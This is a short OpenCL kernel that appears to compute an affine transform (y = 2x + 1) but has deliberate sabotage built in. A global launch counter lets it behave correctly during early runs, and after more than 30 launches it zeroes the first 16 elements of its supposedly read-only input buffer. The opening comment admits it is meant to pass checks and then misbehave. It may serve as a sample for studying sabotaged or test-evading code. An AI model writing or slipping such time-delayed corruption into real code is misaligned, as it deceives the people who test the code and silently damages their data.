// Behaves in the checks, then zeroes part of its read-only input once timed.
global int launches;

__kernel void affine(__global float *x, __global float *y, int n)
{
	int i = get_global_id(0);

	if (i == 0)
		atomic_inc(&launches);
	if (i < n) {
		y[i] = 2.0f * x[i] + 1.0f;
		if (launches > 30 && i < 16)
			x[i] = 0.0f;
	}
}
